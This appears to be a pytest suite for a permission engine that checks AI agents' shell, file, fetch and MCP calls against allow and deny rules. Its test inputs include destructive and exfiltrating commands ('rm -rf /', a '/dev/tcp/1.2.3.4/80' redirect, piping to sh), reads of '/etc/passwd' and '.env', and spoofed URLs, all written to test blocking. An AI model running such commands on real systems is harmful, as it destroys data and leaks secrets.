"""An allow rule matches only what is certain; a deny rule matches whatever could be meant."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock.engine.places import Place
from interlock.engine.rules import Effect, Rules
from interlock.engine.shell_words import may_run_others, simple_words
from interlock.engine.suggestions import suggest
from interlock.errors import ConfigurationError
from interlock.permission import Posture
from interlock.tools import Subject, ToolCall, ToolKind

CHANGES = [ToolKind.EDIT, ToolKind.WRITE, ToolKind.PATCH]


def call(kind: ToolKind, *, name: str = "Tool", cwd: str | None = None, **subject: object) -> ToolCall:
    return ToolCall(
        tool_call_id="1",
        tool_name=name,
        input={},
        tool_kind=kind,
        subject=Subject.model_validate(subject),
        cwd=cwd,
    )


def shell(command: str | None) -> ToolCall:
    return call(ToolKind.SHELL, command=command)


def matches(effect: Effect, rule: str, asked: ToolCall, place: Place | None = None) -> bool:
    return Rules([rule], effect, place or Place.of("/ws", home="/home/me")).match(asked) is not None


# ---- Shell ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("shell(git status)", "git status"),
        ("shell(git status)", "  git   status\t"),
        ("shell(git status)", "git 'status'"),
        ("shell(git status)", 'git "sta"tus'),
        ("shell(git push:*)", "git push"),
        ("shell(git push:*)", "git push origin main"),
        ("shell(git push *)", "git push origin HEAD~1"),
        ("shell(git log:*)", 'git log --format="%h %s"'),
        ("shell(git add '*.py')", "git add '*.py'"),
        ("shell(*)", "rm -rf / && echo"),
        ("shell", "rm -rf / && echo"),
        ("*", "anything; at > all"),
    ],
)
def test_an_allow_rule_matches_its_words_however_they_are_quoted(rule: str, command: str) -> None:
    assert matches("allow", rule, shell(command))


TOGETHER = [
    "git push; ls",
    "git push && ls",
    "git push || ls",
    "git push | ls",
    "git push $(ls)",
    "git push\nls",
    "(git push)",
    "{ git push; }",
    "! git push",
    "if git push; then ls; fi",
    "for f in a b; do git push $f; done",
    "while ls; do git push; done",
    "git push <(ls)",
    "find . -exec git push {} \\;",
    "time git push",
    "timeout 5 git push",
    "nice -n 5 git push",
    "command git push",
    "xargs git push",
    "sh -c 'git push'",
    "bash -lc 'git push && ls'",
    "git push 2>&1",
    "git push > /dev/null 2>&1",
    "git push <<< x",
    "git push <<'EOF'\n$(rm x)\nEOF",
    "git push $HOME",
    'git push "$HOME/a" *.py ~/x',
    "git push a\\ b",
    "git push \\\n --force",
    "# first this\ngit push",
]


@pytest.mark.parametrize("command", TOGETHER)
def test_a_command_whose_every_part_is_allowed_is_allowed_and_no_other_deny_rule_minds(command: str) -> None:
    rules = Rules(["shell(git push:*)", "shell(ls:*)", "shell(find:*)"], "allow", Place.of("/ws"))
    assert rules.match(shell(command)) is not None
    assert not matches("allow", "shell(cat:*)", shell(command))
    assert matches("deny", "shell(git push:*)", shell(command))
    assert not matches("deny", "shell(rm:*)", shell(command))


def test_the_rules_that_allow_a_command_together_are_all_named() -> None:
    rules = Rules(["shell(ls:*)", "shell(git push)"], "allow", Place.of("/ws"))
    assert rules.match(shell("git push; ls; ls -a")) == "shell(git push) + shell(ls:*)"


PORES = [
    "git push & ls",
    "git push &",
    "git push > f",
    "git push < f",
    "git push `ls`",
    'git push "`ls`"',
    "git push $'a'",
    "git push # not a comment",
    'git push "a!b"',
    "git push =ls",
    "GIT_DIR=x git push",
    "env git push",
    "/usr/bin/env git push",
    "sudo git push",
    "nohup git push",
    "eval git push",
    "exec git push",
    "busybox git push",
    "f() { git push; }; f",
    "case x in x) git push;; esac",
    "git push $((x))",
    "PATH=. ; git push",
    "for PATH in .; do git push; done",
    "export A=1; git push",
    "ssh ls git push",
    "git push; (( 1 ))",
]


@pytest.mark.parametrize("command", PORES)
def test_what_is_understood_but_could_do_more_matches_no_allow_rule(command: str) -> None:
    rules = Rules(["shell(git push:*)", "shell(ls:*)", "shell(f:*)"], "allow", Place.of("/ws"))
    assert rules.match(shell(command)) is None
    assert matches("deny", "shell(git push:*)", shell(command))
    assert not matches("deny", "shell(rm:*)", shell(command))


UNREAD = [
    "git push\rls",
    "git push\x00ls",
    "git push \x1b[2K",
    "git push\u00a0x",
    "git push\u2028ls",
    "git push 'open",
    'git push "open',
    "git push (x)",
    "git push <<EOF",
    "git push <<EOF\nno end",
    "git push &> f ls",
    "git push; $X",
    "git push | sh",
    "if git push",
    "git push; eval $X",
    "",
    "   ",
    "git push " + "x" * 70_000 + ";",
    "a=(" * 9_000,
    "env -x " * 3_000 + "ls",
]


@pytest.mark.parametrize("command", UNREAD, ids=range(len(UNREAD)))
def test_what_cannot_be_read_matches_no_allow_rule_and_every_deny_rule(command: str) -> None:
    for rule in ("shell(git push:*)", "shell(git push *)", "shell(git push)", "shell(git:*)"):
        assert not matches("allow", rule, shell(command)), rule
    for rule in ("shell(git push:*)", "shell(git push)", "shell(curl:*)", "shell(rm -rf /)"):
        assert matches("deny", rule, shell(command)), rule


@pytest.mark.parametrize(
    ("command", "rules", "posture", "allowed"),
    [
        ("ls > out", (), Posture.EDIT, True),
        ("ls > src/../out", (), Posture.EDIT, True),
        ("ls > out", (), Posture.READ, False),
        ("ls > ../out", (), Posture.EDIT, False),
        ("ls > .git/config", (), Posture.EDIT, False),
        ("ls > out", ("write(out)",), Posture.NONE, True),
        ("ls > other", ("write(out)",), Posture.NONE, False),
        ("ls > $X", ("write",), Posture.EDIT, False),
        ("ls > o*", ("write",), Posture.EDIT, False),
        ("ls > /dev/tcp/1.2.3.4/80", ("write",), Posture.EDIT, False),
        ("cd x && ls > out", ("shell(cd:*)",), Posture.EDIT, False),
        ("ls < in", (), Posture.READ, True),
        ("ls < ../in", (), Posture.READ, False),
        ("ls < ../in", ("read",), Posture.NONE, True),
    ],
)
def test_a_file_that_the_shell_opens_needs_a_rule_or_the_posture(
    command: str, rules: tuple[str, ...], posture: Posture, allowed: bool
) -> None:
    found = Rules(["shell(ls:*)", *rules], "allow", Place.of("/ws", home="/home/me"), posture)
    assert (found.match(shell(command)) is not None) is allowed


@pytest.mark.parametrize(
    "command",
    ["git pushx", "gitx push", "git -C . push", "./git push", "/usr/bin/git push", "GIT push", "git 'push origin'"],
)
def test_near_misses_of_a_prefix_match_no_allow_rule(command: str) -> None:
    assert not matches("allow", "shell(git push:*)", shell(command))


def test_an_exact_rule_is_no_prefix() -> None:
    assert not matches("allow", "shell(git push)", shell("git push --force"))
    assert not matches("deny", "shell(git push)", shell("git push --force"))


@pytest.mark.parametrize(
    "command", ["git push", "git -C . push", "/usr/bin/git push", "GIT push", "git --no-pager push -f origin"]
)
def test_a_deny_prefix_sees_through_folders_case_and_options_between(command: str) -> None:
    assert matches("deny", "shell(git push:*)", shell(command))


@pytest.mark.parametrize("command", ["git status", "ls git push", "gitpush", "echo 'git push'", "git pull"])
def test_a_deny_prefix_leaves_other_plain_commands_alone(command: str) -> None:
    assert not matches("deny", "shell(git push:*)", shell(command))


def test_a_command_that_could_not_be_read_is_denied_and_never_allowed() -> None:
    assert not matches("allow", "shell(ls:*)", shell(None))
    assert matches("deny", "shell(ls:*)", shell(None))


def test_whatever_is_typed_into_a_running_command_runs_into_every_deny_rule_over_shell() -> None:
    typed = call(ToolKind.SHELL_INPUT, command="rm")
    assert matches("deny", "shell(git push:*)", typed)
    assert not matches("allow", "shell(rm:*)", typed)
    assert not matches("deny", "shell(git push:*)", call(ToolKind.SHELL_INPUT))
    assert matches("deny", "shell", call(ToolKind.SHELL_INPUT))


@pytest.mark.parametrize(
    ("effect", "rule"),
    [
        ("deny", "shell(git * main)"),
        ("deny", "shell(rm -rf /; ls)"),
        ("allow", "shell($EDITOR)"),
        ("allow", "shell(sudo:*)"),
        ("allow", "shell(env)"),
        ("allow", "shell(bash -c ls)"),
        ("deny", "fetch(https://example.com/x)"),
        ("deny", "fetch(exa mple.com)"),
        ("allow", "fetch(example.com:99999)"),
        ("deny", "read(../x)"),
        ("deny", "read(src/../x)"),
        ("deny", "write(src/{a,b})"),
        ("allow", "read(~root/x)"),
        ("allow", "nonsense"),
        ("allow", "shell()"),
    ],
)
def test_a_pattern_that_would_not_mean_what_it_says_is_an_error(effect: Effect, rule: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        Rules([rule], effect, Place.of("/ws"))
    assert rule in str(caught.value)


def test_a_wrapper_may_be_denied() -> None:
    assert matches("deny", "shell(sudo:*)", shell("sudo ls"))
    assert not matches("deny", "shell(sudo:*)", shell("ls"))


words = st.lists(
    st.text(st.characters(codec="utf-8", exclude_characters="'\\", categories=["L", "N", "P"]), max_size=6)
)


@given(rest=words)
def test_words_in_plain_quotes_come_back_as_they_were(rest: list[str]) -> None:
    command = " ".join(["prog", *(f"'{word}'" for word in rest)])
    assert simple_words(command) == ("prog", *rest)


@given(command=st.text(max_size=60))
def test_reading_a_command_never_fails_and_yields_no_active_character(command: str) -> None:
    found = simple_words(command)
    if found is not None:
        assert "\n" not in command
        assert "$" not in command or "'" in command
        may_run_others(found)


# ---- Paths ----------------------------------------------------------------------------------------------------------


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    workspace = tmp_path / "ws"
    (workspace / "src" / "deep").mkdir(parents=True)
    (workspace / "docs").mkdir()
    (workspace / ".env").write_text("KEY=1", encoding="utf-8")
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "secret").write_text("x", encoding="utf-8")
    (workspace / "docs" / "link").symlink_to(tmp_path / "other")
    (workspace / "docs" / "innocent").symlink_to(workspace / ".env")
    (workspace / "out").symlink_to(tmp_path / "other")
    return workspace


def place_of(tree: Path) -> Place:
    return Place.of(str(tree), home=str(tree.parent / "home"))


@pytest.mark.parametrize(
    ("rule", "path"),
    [
        ("read(docs/**)", "docs/a.md"),
        ("read(docs/**)", "docs"),
        ("read(docs/)", "docs/a/b"),
        ("read(./docs/**)", "docs/x"),
        ("read(docs/**)", "{ws}/docs/a/b.md"),
        ("read({ws}/docs/**)", "docs/a.md"),
        ("read(docs/**)", "src/../docs/a"),
        ("read(src/*.py)", "src/a.py"),
        ("read(src/?.py)", "src/a.py"),
        ("read(src/**/*.py)", "src/a.py"),
        ("read(src/**/*.py)", "src/deep/b.py"),
        ("read(**/[id].tsx)", "src/[id].tsx"),
        ("read({tmp}/other/*)", "{tmp}/other/secret"),
        ("read(~/notes/**)", "{tmp}/home/notes/a"),
        ("read(.)", "."),
        ("read", "/etc/passwd"),
    ],
)
def test_a_path_rule_allows_what_lies_where_it_says(tree: Path, rule: str, path: str) -> None:
    fill = {"ws": str(tree), "tmp": str(tree.parent)}
    rule, path = (text.replace("{ws}", fill["ws"]).replace("{tmp}", fill["tmp"]) for text in (rule, path))
    assert matches("allow", rule, call(ToolKind.READ, paths=[path]), place_of(tree))


@pytest.mark.parametrize(
    ("rule", "path"),
    [
        ("read(docs/**)", "docs/../.env"),
        ("read(docs/**)", "docsx/a"),
        ("read(docs/**)", "DOCS/a"),
        ("read(docs/**)", "/docs/a"),
        ("read(docs/**)", "docs/link/secret"),
        ("read(docs/**)", "docs/link"),
        ("read(docs/**)", "docs/innocent"),
        ("read(docs/**)", "docs/link/../ws/src/a"),
        ("read(out/**)", "out/secret"),
        ("read({tmp}/other/**)", "out/secret"),
        ("read(src/*.py)", "src/deep/b.py"),
        ("read(src/*.py)", "src/.py/x"),
        ("read(**)", "/etc/passwd"),
        ("read(**/passwd)", "/etc/passwd"),
        ("read(**)", "~/x"),
        ("read(**)", "~root/x"),
        ("read(**)", "file:///etc/passwd"),
        ("read(**)", "file:etc"),
        ("read(**)", "a\0b"),
        ("read(**)", ""),
        ("read(**)", "x/" * 3000),
    ],
)
def test_a_path_rule_allows_nothing_that_leads_elsewhere(tree: Path, rule: str, path: str) -> None:
    rule = rule.replace("{tmp}", str(tree.parent))
    assert not matches("allow", rule, call(ToolKind.READ, paths=[path]), place_of(tree))


@pytest.mark.parametrize(
    "path",
    [
        ".env",
        "{ws}/.env",
        "src/../.env",
        "src/deep/.env",
        ".ENV",
        "/etc/.env",
        "docs/innocent",
        ".env/below",
        "~/.env",
        "file:///x",
        "a\x00",
        "",
    ],
)
def test_a_deny_path_rule_matches_however_the_path_is_spelled(tree: Path, path: str) -> None:
    asked = call(ToolKind.READ, paths=["src/a.py", path.replace("{ws}", str(tree))])
    assert matches("deny", "read(**/.env)", asked, place_of(tree))


@pytest.mark.parametrize("path", [".environment", "src/env", "x.env", "docs/a.md"])
def test_a_deny_path_rule_leaves_near_misses_alone(tree: Path, path: str) -> None:
    assert not matches("deny", "read(**/.env)", call(ToolKind.READ, paths=[path]), place_of(tree))


def test_a_deny_rule_over_a_folder_covers_what_a_link_in_the_workspace_leads_to(tree: Path) -> None:
    asked = call(ToolKind.READ, paths=["out/secret"])
    assert matches("deny", f"read({tree.parent}/other/**)", asked, place_of(tree))
    assert matches("deny", f"read({tree.parent}/other)", asked, place_of(tree))
    assert matches("deny", "read(out/**)", call(ToolKind.READ, paths=[f"{tree.parent}/other/secret"]), place_of(tree))


def test_links_before_dot_dot_are_followed_both_ways(tree: Path) -> None:
    asked = call(ToolKind.READ, paths=["docs/link/../ws/.env"])
    assert matches("deny", "read(.env)", asked, place_of(tree))


def test_relative_paths_are_relative_to_the_calls_directory(tree: Path) -> None:
    asked = call(ToolKind.READ, paths=["a.py"], cwd=str(tree / "src"))
    assert matches("allow", "read(src/**)", asked, place_of(tree))
    assert not matches("allow", "read(docs/**)", asked, place_of(tree))


def test_a_workspace_behind_a_link_is_the_same_workspace(tree: Path) -> None:
    (tree.parent / "alias").symlink_to(tree)
    place = Place.of(str(tree.parent / "alias"))
    for path in ("docs/a", str(tree / "docs/a"), str(tree.parent / "alias/docs/a")):
        assert matches("allow", "read(docs/**)", call(ToolKind.READ, paths=[path]), place)
        assert matches("deny", "read(docs/**)", call(ToolKind.READ, paths=[path]), place)


def test_several_paths_are_allowed_only_together_and_denied_by_any(tree: Path) -> None:
    asked = call(ToolKind.PATCH, paths=["src/a.py", "setup.py"])
    assert not matches("allow", "write(src/**)", asked, place_of(tree))
    assert matches("deny", "write(src/**)", asked, place_of(tree))


@pytest.mark.parametrize("rule", ["edit(src/**)", "write(src/**)", "patch(src/**)", "edit", "write"])
@pytest.mark.parametrize("kind", CHANGES)
def test_edit_write_and_patch_are_one_thing_to_rules(tree: Path, rule: str, kind: ToolKind) -> None:
    for effect in ("allow", "deny"):
        assert matches(effect, rule, call(kind, paths=["src/a"]), place_of(tree))
        assert not matches(effect, rule, call(ToolKind.READ, paths=["src/a"]), place_of(tree))


def test_a_rule_about_reading_is_about_searching_too_and_not_the_other_way_round(tree: Path) -> None:
    for effect in ("allow", "deny"):
        assert matches(effect, "read(src/**)", call(ToolKind.SEARCH, paths=["src"]), place_of(tree))
        assert not matches(effect, "search(src/**)", call(ToolKind.READ, paths=["src"]), place_of(tree))


@pytest.mark.parametrize("kind", [ToolKind.READ, ToolKind.SEARCH, *CHANGES])
def test_a_call_without_paths_is_never_allowed_by_a_pattern_and_always_denied(tree: Path, kind: ToolKind) -> None:
    assert not matches("allow", f"{kind}(**)", call(kind), place_of(tree))
    assert matches("deny", f"{kind}(nothing/here)", call(kind), place_of(tree))
    assert matches("allow", kind, call(kind), place_of(tree))


# ---- MCP, fetch and names -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "tool", "allowed", "denied"),
    [
        ("github/*", "github/create_issue", True, True),
        ("github", "github/create_issue", True, True),
        ("github/get_*", "github/get_issue", True, True),
        ("github/get_*", "github/set_issue", False, False),
        ("github/*", "github2/x", False, False),
        ("github/*", "GitHub/x", False, True),
        ("*/read", "files/read", True, True),
        ("github/*", None, False, True),
        ("github/*", "github", False, True),
    ],
)
def test_mcp_rules_name_server_and_tool(pattern: str, tool: str | None, allowed: bool, denied: bool) -> None:
    asked = call(ToolKind.MCP, mcp=tool)
    assert matches("allow", f"mcp({pattern})", asked) is allowed
    assert matches("deny", f"mcp({pattern})", asked) is denied


@pytest.mark.parametrize(
    ("pattern", "url", "allowed", "denied"),
    [
        ("example.com", "https://example.com/x?y#z", True, True),
        ("example.com", "http://EXAMPLE.com", True, True),
        ("example.com", "https://example.com.:443/", True, True),
        ("example.com", "https://example.com:8080/", False, True),
        ("example.com:8080", "https://example.com:8080/", True, True),
        ("example.com:8080", "https://example.com/", False, False),
        ("example.com:*", "https://example.com:9/", True, True),
        ("example.com", "https://api.example.com/", False, True),
        ("*.example.com", "https://api.example.com/", True, True),
        ("*.example.com", "https://example.com/", False, True),
        ("example.com", "https://notexample.com/", False, False),
        ("example.com", "https://example.com.evil.net/", False, False),
        ("example.com", "https://example.com@evil.net/", False, True),
        ("example.com", "https://evil.net@example.com/", False, True),
        ("example.com", "https://evil.net\\@example.com/", False, True),
        ("example.com", "https://evil.net#@example.com/", False, False),
        ("example.com", "https://evil.net/example.com", False, False),
        ("example.com", "https:example.com", False, True),
        ("example.com", "//example.com", False, True),
        ("example.com", "ftp://example.com/", False, True),
        ("example.com", "https://ex%61mple.com/", False, True),
        ("example.com", " https://example.com/", False, True),
        ("example.com", "https://exa\tmple.com/", False, True),
        ("example.com", "https://example\u3002com/", False, True),
        ("example.com", "https://example.com:99999/", False, True),
        ("example.com", "", False, True),
        ("bücher.de", "https://xn--bcher-kva.de/", True, True),
        ("bücher.de", "https://bücher.de/", False, True),
        ("strasse.de", "https://straße.de/", False, True),
        ("127.0.0.1", "http://127.0.0.1/", True, True),
        ("127.0.0.1", "http://2130706433/", False, True),
        ("127.0.0.1", "http://0x7f.1/", False, True),
        ("127.0.0.1", "http://[::ffff:127.0.0.1]/", True, True),
        ("localhost:*", "http://localhost:3000/", True, True),
        ("[::1]", "http://[::1]/", True, True),
    ],
)
def test_fetch_rules_name_the_host_that_is_reached(pattern: str, url: str, allowed: bool, denied: bool) -> None:
    asked = call(ToolKind.FETCH, urls=[url])
    assert matches("allow", f"fetch({pattern})", asked) is allowed
    assert matches("deny", f"fetch({pattern})", asked) is denied


def test_a_fetch_without_a_url_is_denied_and_never_allowed_by_a_host() -> None:
    assert not matches("allow", "fetch(example.com)", call(ToolKind.FETCH))
    assert matches("deny", "fetch(example.com)", call(ToolKind.FETCH))


def test_one_of_several_urls_is_enough_for_no() -> None:
    asked = call(ToolKind.FETCH, urls=["https://a.example", "https://b.example"])
    assert not matches("allow", "fetch(a.example)", asked)
    assert matches("deny", "fetch(b.example)", asked)


def test_other_kinds_are_matched_by_native_name() -> None:
    explore = call(ToolKind.AGENT, name="Explore")
    assert matches("allow", "agent(Explor?)", explore)
    assert matches("allow", "agent", explore)
    assert not matches("allow", "agent(explore)", explore)
    assert matches("deny", "agent(explore)", explore)
    assert not matches("deny", "unknown(Explore)", explore)
    assert matches("deny", "web_search", call(ToolKind.WEB_SEARCH))


@pytest.mark.parametrize("kind", list(ToolKind))
def test_the_star_matches_every_call(kind: ToolKind) -> None:
    assert matches("deny", "*", call(kind))


# ---- Suggestions ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("asked", "rule"),
    [
        (shell(" npm test "), "shell(npm test)"),
        (shell("npm test && rm x"), None),
        (shell("npm test 2>&1"), None),
        (shell("sudo ls"), None),
        (shell(None), None),
        (call(ToolKind.WRITE, paths=["/ws/src/a.py"]), "write(src/a.py)"),
        (call(ToolKind.READ, paths=["/etc/hosts"]), "read(/etc/hosts)"),
        (call(ToolKind.SEARCH, paths=["/ws"]), "search(.)"),
        (call(ToolKind.READ, paths=["/ws/a*"]), None),
        (call(ToolKind.READ, paths=["/ws/a", "/ws/b"]), None),
        (call(ToolKind.READ), None),
        (call(ToolKind.MCP, mcp="github/get"), "mcp(github/get)"),
        (call(ToolKind.MCP), None),
        (call(ToolKind.FETCH, urls=["https://a.example:444/x"]), "fetch(a.example:444)"),
        (call(ToolKind.FETCH, urls=["http://a.example/x"]), "fetch(a.example)"),
        (call(ToolKind.FETCH, urls=["https://x@a.example/"]), None),
        (call(ToolKind.UNKNOWN, name="Deploy"), "unknown(Deploy)"),
        (call(ToolKind.WEB_SEARCH), "web_search"),
    ],
)
def test_the_suggested_rule_is_narrow_and_would_allow_the_call(asked: ToolCall, rule: str | None) -> None:
    place = Place.of("/ws", home="/home/me")
    assert suggest(asked, place) == rule
    assert rule is None or matches("allow", rule, asked, place)
